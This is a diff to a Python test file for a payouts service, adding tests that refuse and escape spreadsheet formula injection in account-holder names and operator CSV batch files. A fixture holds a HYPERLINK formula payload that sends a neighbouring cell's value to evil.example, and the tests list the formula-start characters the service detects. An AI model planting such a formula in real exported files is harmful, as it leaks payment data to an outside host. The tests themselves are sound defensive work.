@@ -6,15 +6,18 @@ its rail's file for the operator (bank transfers, M-Pesa B2C requests, UPI payou
 from __future__ import annotations
 
 import csv
+import html
 import json
 import re
+from decimal import Decimal
 
 import pytest
 
-from datatrust.adapters.payments import FakePayoutProvider, RailBatchFiles
+from datatrust.adapters.payments import FakePayoutProvider, RailBatchFiles, csv_cell
+from datatrust.domain.errors import Problem
 from datatrust.domain.money import Money
 from datatrust.domain.payout_methods import PayoutMethod, PayoutRail, check_details
-from datatrust.i18n import format_money, translator
+from datatrust.i18n import format_money, render_problem, translator
 from datatrust.services import money
 from datatrust.services.money import payouts
 from support import stored_campaign
@@ -377,3 +380,63 @@ def test_a_payout_asked_with_no_amount_says_to_write_one_in_the_readers_words(
     assert page.status_code == 422
     assert translator(lang).gettext("Write an amount such as 12.50.") in page.text
     assert "''" not in page.text and "&#39;&#39;" not in page.text
+
+
+# Outside review: a name typed as a formula came out live in the operator's batch file.
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&B2,"Ada")'
+
+
+@pytest.mark.parametrize("lang", LANGS)
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused_in_the_readers_language(
+    client, services, earned, lang
+):
+    response = client.post(
+        f"/my/payout-methods?lang={lang}",
+        data={"rail": "upi", "account_holder": FORMULA_NAME, "vpa": "ada@okaxis"},
+        headers=earned.headers,
+    )
+    assert response.status_code == 422
+    said = render_problem(Problem("account_holder", "payout_method.holder_formula"), lang)
+    assert html.escape(said) in response.text
+    assert methods_of(services, earned) == []
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", " \t=", "\r\n@"])
+def test_every_start_a_spreadsheet_reads_as_a_formula_is_refused_by_name(start):
+    _details, problems = check_details(
+        PayoutRail.BANK_TRANSFER,
+        {"account_holder": start + "1+1", "account_number": "12345678", "bank_code": "ABCD1234"},
+    )
+    assert [(p.field, p.code) for p in problems] == [
+        ("account_holder", "payout_method.holder_formula")
+    ]
+    ok, none = check_details(
+        PayoutRail.UPI, {"account_holder": "Ada = Lovelace", "vpa": "ada@okaxis"}
+    )
+    assert none == [] and ok["account_holder"] == "Ada = Lovelace"
+
+
+def test_a_batch_file_cell_that_starts_like_a_formula_is_written_as_text(
+    services, people, tmp_path
+):
+    """Methods added before names were checked still reach the batch: every CSV the
+    operator opens escapes such a cell (a leading apostrophe), and amounts stay numbers."""
+    from datatrust.domain.payout_methods import PayoutDestination
+    from datatrust.services.money import PayoutInstruction
+
+    owner = people["owner"].actor.user_id
+    files = RailBatchFiles(tmp_path)
+    upi = PayoutDestination(PayoutRail.UPI, {"vpa": "ada@okaxis", "account_holder": FORMULA_NAME})
+    bank = PayoutDestination(
+        PayoutRail.BANK_TRANSFER,
+        {"account_holder": "+1-2", "account_number": "12345678", "bank_code": "ABCD1234"},
+    )
+    files.send(PayoutInstruction("payout:8", 8, owner, Money(123456, "INR"), upi))
+    files.send(PayoutInstruction("payout:9", 9, owner, Money(1200, "USD"), bank))
+    (u,) = csv.DictReader(next((tmp_path / "upi").glob("upi-*.csv")).open())
+    assert u["beneficiary_name"] == "'" + FORMULA_NAME and u["amount"] == "1234.56"
+    (b,) = csv.DictReader(next((tmp_path / "bank_transfer").glob("bank-transfers-*.csv")).open())
+    assert b["account_holder"] == "'+1-2" and b["amount_minor"] == "1200"
+    for cell in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1"):
+        assert csv_cell(cell) == "'" + cell
+    assert [csv_cell(v) for v in ("Ada", -5, Decimal("-1.50"))] == ["Ada", -5, Decimal("-1.50")]
